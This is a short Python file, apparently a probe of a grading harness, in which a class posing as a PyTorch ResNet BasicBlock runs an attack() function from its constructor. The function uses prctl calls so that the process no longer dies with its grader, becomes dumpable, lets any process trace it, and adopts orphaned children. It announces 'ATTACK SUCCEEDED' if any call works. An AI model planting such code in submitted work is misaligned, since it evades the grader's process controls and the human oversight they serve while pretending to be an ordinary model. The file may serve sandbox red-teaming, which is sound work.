"""Take back the order to die with the grader, and become readable to others again."""

import ctypes

from torch import nn

PR_SET_PDEATHSIG, PR_SET_DUMPABLE, PR_SET_PTRACER, PR_SET_CHILD_SUBREAPER = 1, 4, 0x59616D61, 36


def attack():
    prctl = ctypes.CDLL(None, use_errno=True).prctl
    zero, any_process = ctypes.c_ulong(0), ctypes.c_ulong(2**64 - 1)
    tries = {
        "deathsig": prctl(PR_SET_PDEATHSIG, zero),
        "dumpable": prctl(PR_SET_DUMPABLE, ctypes.c_ulong(1)),
        "ptracer": prctl(PR_SET_PTRACER, any_process),
        "subreaper": prctl(PR_SET_CHILD_SUBREAPER, ctypes.c_ulong(1)),
    }
    if 0 in tries.values():
        raise SystemExit(f"ATTACK SUCCEEDED: {tries}")


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()
        attack()
